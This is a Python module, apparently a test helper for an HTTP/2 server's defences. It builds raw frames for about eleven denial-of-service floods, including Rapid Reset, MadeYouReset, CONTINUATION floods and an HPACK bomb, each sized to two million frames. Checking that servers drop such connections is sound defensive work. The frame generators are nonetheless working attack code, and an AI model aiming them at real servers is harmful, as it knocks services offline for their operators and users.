"""HTTP/2 frames as clients that mean harm send them, without a library that forbids it."""

from __future__ import annotations

import struct
from collections.abc import Callable, Iterator

from hpack import Encoder

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    *(0, 1, 2, 3, 4),
    *(6, 7, 8, 9),
)
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
MAGIC = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = b"\0\0\0\x08"
FRAMES = 2_000_000
"""So many frames of a flood there are: far more than the kernel takes by itself."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame."""
    start = struct.pack(">IBBI", len(payload) << 8 | kind, flags, 0, 0)
    return start[:5] + struct.pack(">I", stream) + payload


def preface(window: int | None = None) -> bytes:
    """Return what a client begins with.

    :param window: of its streams, if it is another than 65,535 bytes.
    """
    settings = b"" if window is None else struct.pack(">HI", 4, window)
    return MAGIC + frame(SETTINGS, 0, 0, settings)


def head(authority: str, path: str = "/", method: str = "GET", **more: str) -> bytes:
    """Return a head as HPACK has it, nothing of it indexed."""
    pseudo = {":method": method, ":scheme": "https", ":authority": authority, ":path": path}
    return Encoder().encode([(name, value, True) for name, value in {**pseudo, **more}.items()])


def streams() -> range:
    """Return a client's numbers of streams."""
    return range(1, 2 * FRAMES, 2)


def asked(host: str, stream: int, path: str = "/") -> bytes:
    """Return a request."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, head(host, path))


def rapid_reset(host: str) -> Iterator[bytes]:
    """Ask and give up at once (CVE-2023-44487)."""
    for stream in streams():
        yield asked(host, stream, "/hang") + frame(RST_STREAM, 0, stream, CANCEL)


def made_you_reset(host: str) -> Iterator[bytes]:
    """Ask, then have the server give up: a window beyond all bounds (CVE-2025-8671)."""
    for stream in streams():
        beyond = struct.pack(">I", 2**31 - 1)
        yield asked(host, stream, "/hang") + frame(WINDOW_UPDATE, 0, stream, beyond)


def malformed(host: str) -> Iterator[bytes]:
    """Ask for what is an error of the stream."""
    for stream in streams():
        block = head(host, "/", host="evil.example")
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def continuations(host: str) -> Iterator[bytes]:
    """Begin a head that does not end (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, head(host))
    more = Encoder().encode([("x-more", "y" * 1000, True)])
    for _ in range(FRAMES):
        yield frame(CONTINUATION, 0, 1, more)


def empty_continuations(host: str) -> Iterator[bytes]:
    """Begin a head that goes on with nothing."""
    yield frame(HEADERS, END_STREAM, 1, head(host))
    for _ in range(FRAMES):
        yield frame(CONTINUATION, 0, 1)


def bomb(host: str) -> Iterator[bytes]:
    """Send heads of some hundred bytes that unpack to megabytes."""
    encoder = Encoder()
    first = encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", host)])
    first += encoder.encode([(":path", "/"), ("x", "y" * 3900)])
    again = encoder.encode([("x", "y" * 3900)])
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, first)
    for stream in streams()[1:]:
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, head(host) + again * 1000)


def pings(_: str) -> Iterator[bytes]:
    """Want each ping answered."""
    for _number in range(FRAMES):
        yield frame(PING, 0, 0, b"12345678")


def settings(_: str) -> Iterator[bytes]:
    """Want each setting acknowledged."""
    for number in range(FRAMES):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + number % 2))


def empty_data(host: str) -> Iterator[bytes]:
    """Send a body of nothing that does not end."""
    yield frame(HEADERS, END_HEADERS, 1, head(host, "/", "POST"))
    for _ in range(FRAMES):
        yield frame(DATA, 0, 1)


def windows(_: str) -> Iterator[bytes]:
    """Open the window byte by byte."""
    for _number in range(FRAMES):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def priorities(_: str) -> Iterator[bytes]:
    """Tell what nobody listens to."""
    for stream in streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16))


FLOODS: tuple[Callable[[str], Iterator[bytes]], ...] = (
    rapid_reset,
    made_you_reset,
    malformed,
    continuations,
    empty_continuations,
    bomb,
    pings,
    settings,
    empty_data,
    windows,
    priorities,
)
"""What has to end its connection; each takes the host that is asked."""
